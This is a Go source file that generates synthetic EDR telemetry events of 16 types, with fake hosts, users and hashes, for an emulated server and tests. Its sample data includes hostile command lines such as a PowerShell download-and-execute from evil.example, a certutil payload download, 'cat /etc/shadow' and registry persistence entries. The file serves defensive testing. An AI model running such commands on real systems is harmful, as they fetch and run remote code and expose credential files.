// Package gen makes realistic synthetic KATA events of all 16 event types, with the fields the
// vendor's table lists for each, for the emulated server's --generate and for tests. The
// output is deterministic for a given seed.
package gen

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// EventTypes lists the 16 event types of the KATA events API, in the vendor's order.
var EventTypes = []string{
	"process", "process_terminate", "module", "connection", "applock", "blockdocument",
	"filechange", "windowsevent", "registry", "portlisten", "driver", "threatdetect",
	"threatprocessingresult", "amsiscan", "process_interpretated_file_run",
	"process_console_interactive_input",
}

// Generator makes events. It is not safe for concurrent use.
type Generator struct {
	r     *rand.Rand
	hosts []host
	now   func() time.Time
	n     uint64
}

type host struct {
	name, ip, os, osVersion string
	users                   []string
}

// New returns a generator seeded with seed whose events belong to nhosts hosts (at least 1;
// 0 means 25). now gives the events' Timestamp; nil means time.Now.
func New(seed uint64, nhosts int, now func() time.Time) *Generator {
	if nhosts <= 0 {
		nhosts = 25
	}
	if now == nil {
		now = time.Now
	}
	g := &Generator{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), now: now}
	prefixes := []string{"WS-HR", "WS-FIN", "WS-DEV", "LAPTOP", "SRV-DC", "SRV-WEB", "srv-db"}
	for i := range nhosts {
		p := prefixes[g.r.IntN(len(prefixes))]
		h := host{name: fmt.Sprintf("%s-%03d", p, i+1), ip: fmt.Sprintf("10.0.%d.%d", i/250, i%250+2)}
		if strings.HasPrefix(p, "srv-") {
			h.os, h.osVersion = "Linux", "Ubuntu 22.04"
			h.users = []string{"root", "postgres", "deploy"}
		} else {
			h.os = "Windows"
			h.osVersion = []string{"10.0.19045", "10.0.22631", "10.0.20348"}[g.r.IntN(3)]
			h.users = []string{`CORP\alice`, `CORP\bob`, `CORP\carol.admin`, `NT AUTHORITY\SYSTEM`}
		}
		g.hosts = append(g.hosts, h)
	}
	return g
}

// Next returns the next event, of a random type, as the bytes of one JSON object.
func (g *Generator) Next() []byte {
	return g.Of(EventTypes[g.r.IntN(len(EventTypes))])
}

// Of returns an event of the given type.
func (g *Generator) Of(eventType string) []byte {
	g.n++
	h := g.hosts[g.r.IntN(len(g.hosts))]
	e := map[string]any{
		"EventType": eventType,
		"HostName":  h.name,
		"HostIp":    h.ip,
		"OsFamily":  h.os,
		"OsVersion": h.osVersion,
		"UserName":  pickOf(g.r, h.users),
		"Timestamp": g.now().UnixMicro(),
	}
	linux := h.os == "Linux"
	switch eventType {
	case "process":
		g.file(e, "", g.exe(linux))
		g.parent(e, linux)
		e["ProcessType"] = g.r.IntN(3)
		e["SystemPid"] = g.pid()
		e["StartupParameters"] = pickOf(g.r, cmdlines)
		if linux {
			e["RealUserName"], e["EffectiveUserName"] = "deploy", pickOf(g.r, h.users)
			e["Environment"] = "PATH=/usr/local/bin:/usr/bin:/bin"
			e["LinuxOperationResult"] = pickOf(g.r, []string{"Success", "Failure"})
		}
	case "process_terminate":
		g.file(e, "", g.exe(linux))
		e["SystemPid"] = g.pid()
		e["ParentSystemPid"] = g.pid()
	case "module":
		g.file(e, "", g.exe(linux))
		g.file(e, "Dll", pickOf(g.r, dlls))
		e["SystemPid"] = g.pid()
		if g.r.IntN(20) == 0 {
			e["HijackingPath"] = `C:\Users\Public\` + e["DllName"].(string)
		}
	case "connection":
		g.file(e, "", g.exe(linux))
		e["Direction"] = pickOf(g.r, []string{"Inbound", "Outbound"})
		e["LocalIp"], e["LocalPort"] = h.ip, 1024+g.r.IntN(60000)
		rh := pickOf(g.r, remotes)
		e["RemoteHostName"], e["RemoteIp"], e["RemotePort"] = rh[0], rh[1], pickOf(g.r, []int{80, 443, 445, 3389, 8080})
		if e["RemotePort"] == 80 || e["RemotePort"] == 8080 {
			e["Method"], e["URI"] = pickOf(g.r, []string{"GET", "POST"}), "http://"+rh[0]+pickOf(g.r, []string{"/", "/update.bin", "/api/v1/beacon"})
		}
		e["SystemPid"] = g.pid()
	case "applock":
		g.file(e, "Blocked", g.exe(linux))
		g.ioa(e)
	case "blockdocument":
		g.file(e, "Blocked", `C:\Users\alice\Downloads\`+pickOf(g.r, docs))
		g.file(e, "", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`)
	case "filechange":
		g.file(e, "", g.exe(linux))
		g.file(e, "Dropped", pickOf(g.r, dropped))
		e["FileOperationType"] = g.r.IntN(5)
		e["DroppedFileType"] = g.r.IntN(4)
		if g.r.IntN(4) == 0 {
			e["PreviousFileFullName"] = `C:\Users\alice\Downloads\tmp` + fmt.Sprint(g.r.IntN(999)) + ".tmp"
			e["PreviousFileName"] = `C:\Users\alice\Downloads`
		}
	case "windowsevent":
		id := pickOf(g.r, []string{"4624", "4625", "4688", "4720", "7045", "1102"})
		e["System"] = map[string]any{
			"EventID":       map[string]any{"value": id},
			"Channel":       map[string]any{"value": pickOf(g.r, []string{"Security", "System"})},
			"EventRecordID": map[string]any{"value": fmt.Sprint(100000 + g.n)},
			"Provider":      map[string]any{"Name": map[string]any{"value": "Microsoft-Windows-Security-Auditing"}},
		}
		e["EventData"] = map[string]any{"Data": map[string]any{
			"TargetDomainName": map[string]any{"value": "CORP"},
			"ObjectName":       map[string]any{"value": `\Device\HarddiskVolume2\Windows\System32\config\SAM`},
			"PackageName":      map[string]any{"value": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"},
			"ProcessName":      map[string]any{"value": `C:\Windows\System32\lsass.exe`},
		}}
		if id == "4624" || id == "4625" {
			e["LogonRemoteHost"] = pickOf(g.r, remotes)[1]
		}
		if linux {
			e["LinuxEventType"] = pickOf(g.r, []string{"login", "logout", "sudo"})
		}
	case "registry":
		g.file(e, "", g.exe(linux))
		k := pickOf(g.r, regkeys)
		e["KeyName"], e["ValueName"], e["ValueData"] = k[0], k[1], k[2]
		e["RegistryOperationType"] = g.r.IntN(4)
		if g.r.IntN(3) == 0 {
			e["PreviousKeyName"], e["PreviousValueData"] = k[0], "old"
		}
	case "portlisten":
		g.file(e, "", g.exe(linux))
		e["LocalIp"], e["LocalPort"] = h.ip, pickOf(g.r, []int{22, 80, 135, 443, 445, 4444, 5985, 8080})
		e["SystemPid"] = g.pid()
	case "driver":
		g.file(e, "", pickOf(g.r, []string{`C:\Windows\System32\drivers\klif.sys`, `C:\Windows\System32\drivers\tcpip.sys`, `C:\Windows\Temp\gdrv.sys`}))
	case "threatdetect":
		g.file(e, "", g.exe(linux))
		e["DetectedName"] = pickOf(g.r, dropped)
		e["DetectedMd5"], e["DetectedSha256"] = g.md5(), g.sha()
		e["VerdictName"] = pickOf(g.r, verdicts)
		e["RecordId"] = 1000 + g.r.IntN(9000)
		e["DetectedObjectType"] = pickOf(g.r, []string{"File", "Process", "Memory"})
		e["ProcessingMode"] = pickOf(g.r, []string{"OnAccess", "OnDemand"})
		g.ioa(e)
	case "threatprocessingresult":
		e["DetectedName"] = pickOf(g.r, dropped)
		e["DetectedMd5"], e["DetectedSha256"] = g.md5(), g.sha()
		e["VerdictName"] = pickOf(g.r, verdicts)
		e["ThreatStatus"] = pickOf(g.r, []string{"Detected", "Disinfected", "Deleted", "Quarantined"})
		e["UntreatedReason"] = pickOf(g.r, []string{"None", "Locked", "NoRights"})
		e["ProcessingMode"] = pickOf(g.r, []string{"OnAccess", "OnDemand"})
		e["RecordId"] = 1000 + g.r.IntN(9000)
		e["OriginalFileName"] = e["DetectedName"]
	case "amsiscan":
		g.file(e, "", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`)
		e["ObjectContent"] = pickOf(g.r, []string{"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", "Get-Process | Sort-Object CPU", "[Reflection.Assembly]::Load($b)"})
		e["ObjectContentType"] = g.r.IntN(3)
		e["SystemPid"] = g.pid()
	case "process_interpretated_file_run":
		g.file(e, "", g.exe(linux))
		g.file(e, "InterpretedFile", pickOf(g.r, []string{`C:\Users\alice\AppData\Local\Temp\run.ps1`, `C:\Scripts\backup.vbs`, `/tmp/x.sh`, `/opt/app/job.py`}))
		e["InterpretedMd5"], e["InterpretedSha256"] = e["InterpretedFileMd5"], e["InterpretedFileSha256"]
		delete(e, "InterpretedFileMd5")
		delete(e, "InterpretedFileSha256")
		e["SystemPid"] = g.pid()
	case "process_console_interactive_input":
		g.file(e, "", g.exe(linux))
		e["InteractiveInputText"] = pickOf(g.r, []string{"whoami /all", "net user administrator /domain", "ipconfig /all", "sudo -l", "cat /etc/shadow"})
		e["SystemPid"] = g.pid()
	default:
		e["SystemPid"] = g.pid()
	}
	b, err := json.Marshal(e)
	if err != nil { // cannot happen: the map holds only strings, numbers and maps
		panic(err)
	}
	return b
}

func pickOf[T any](r *rand.Rand, xs []T) T { return xs[r.IntN(len(xs))] }

func (g *Generator) pid() int { return 4 + g.r.IntN(60000) }

func (g *Generator) md5() string {
	var b [16]byte
	for i := range b {
		b[i] = byte(g.r.IntN(256))
	}
	return hex.EncodeToString(b[:])
}

func (g *Generator) sha() string {
	s := sha256.Sum256([]byte(fmt.Sprint(g.r.Uint64())))
	return hex.EncodeToString(s[:])
}

func (g *Generator) exe(linux bool) string {
	if linux {
		return pickOf(g.r, []string{"/usr/bin/bash", "/usr/bin/python3", "/usr/sbin/sshd", "/tmp/.x/miner", "/usr/bin/curl"})
	}
	return pickOf(g.r, exes)
}

// file sets the name, path, full name, times, size and hashes of a file for a field prefix
// ("" for the main file, "Dll", "Dropped", "Blocked", "InterpretedFile").
func (g *Generator) file(e map[string]any, prefix, f string) {
	sep := `\`
	if strings.HasPrefix(f, "/") {
		sep = "/"
	}
	i := strings.LastIndex(f, sep)
	dir, name := f[:max(i, 0)], f[i+1:]
	e[prefix+"FullName"], e[prefix+"Name"], e[prefix+"Path"] = f, name, dir
	if prefix == "" {
		e["FileFullName"], e["FileName"], e["FilePath"] = f, name, dir
		delete(e, "FullName")
		delete(e, "Name")
		delete(e, "Path")
	}
	p := prefix
	if p == "" {
		p = "File"
	}
	now := g.now().UnixMicro()
	if prefix != "Blocked" {
		created := now - int64(g.r.IntN(400*24*3600))*1e6
		e[p+"CreationTime"] = created
		e[p+"ModificationTime"] = created + int64(g.r.IntN(24*3600))*1e6
		e[p+"Size"] = 1024 + g.r.IntN(8<<20)
	}
	hp := prefix
	if prefix == "" {
		e["Md5"] = g.md5()
	} else if prefix != "Blocked" {
		e[hp+"Md5"] = g.md5()
	}
	e[hp+"Sha256"] = g.sha()
}

func (g *Generator) parent(e map[string]any, linux bool) {
	e["ParentFileFullName"] = g.exe(linux)
	e["ParentMd5"], e["ParentSha256"] = g.md5(), g.sha()
	e["ParentSystemPid"] = g.pid()
	e["ParentStartupParameters"] = pickOf(g.r, []string{"", "/c start", "-Embedding"})
}

func (g *Generator) ioa(e map[string]any) {
	r := pickOf(g.r, ioaRules)
	e["Ioa"] = map[string]any{
		"Rules":      []any{map[string]any{"Id": r[0], "Name": r[1], "Techniques": []string{r[2]}, "Tactics": []string{r[3]}}},
		"Severity":   pickOf(g.r, []string{"High", "Medium", "Low"}),
		"Confidence": pickOf(g.r, []string{"High", "Medium", "Low"}),
	}
}

var (
	exes = []string{
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Windows\System32\cmd.exe`,
		`C:\Windows\System32\rundll32.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\svchost.exe`,
		`C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Users\alice\AppData\Local\Temp\invoice_2024.exe`,
		`C:\Windows\System32\certutil.exe`, `C:\Windows\System32\mshta.exe`,
	}
	cmdlines = []string{"-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "/c whoami /all", "--type=renderer", "-k netsvcs -p", "", "-urlcache -split -f http://evil.example/p.bin"}
	dlls     = []string{`C:\Windows\System32\ntdll.dll`, `C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\amsi.dll`, `C:\Users\Public\version.dll`}
	docs     = []string{"invoice.docm", "report.xlsm", "cv.doc"}
	dropped  = []string{`C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\upd.lnk`, `C:\Windows\Temp\svc.exe`, `C:\Users\bob\Documents\notes.txt`, `/tmp/.x/miner`}
	verdicts = []string{"HEUR:Trojan.Win32.Generic", "Trojan-Downloader.PowerShell.Agent.gen", "not-a-virus:RiskTool.Win32.Mimikatz", "HEUR:Exploit.MSOffice.Generic"}
	remotes  = [][2]string{{"github.com", "140.82.121.4"}, {"update.microsoft.com", "13.107.4.50"}, {"evil.example", "203.0.113.66"}, {"fileserver.corp.local", "10.0.5.10"}}
	regkeys  = [][3]string{
		{`HKLM\Software\Microsoft\Windows\CurrentVersion\Run`, "Updater", `C:\Windows\Temp\svc.exe`},
		{`HKCU\Software\Classes\ms-settings\shell\open\command`, "(Default)", "cmd.exe /c start"},
		{`HKLM\SYSTEM\CurrentControlSet\Services\gdrv`, "ImagePath", `C:\Windows\Temp\gdrv.sys`},
	}
	ioaRules = [][4]string{
		{"ioa-0001", "Suspicious_PowerShell_Encoded", "T1059.001", "TA0002"},
		{"ioa-0004", "LSASS_Access", "T1003.001", "TA0006"},
		{"ioa-0012", "Run_Key_Persistence", "T1547.001", "TA0003"},
		{"ioa-0020", "Certutil_Download", "T1105", "TA0011"},
	}
)
